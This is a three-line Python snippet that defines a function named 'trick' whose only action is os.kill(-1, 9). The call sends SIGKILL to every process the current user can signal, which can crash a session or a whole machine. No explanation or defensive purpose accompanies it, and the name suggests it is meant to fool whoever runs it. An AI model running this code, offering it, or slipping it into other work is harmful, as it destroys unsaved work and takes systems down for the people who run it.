import os
def trick():
    os.kill(-1, 9)
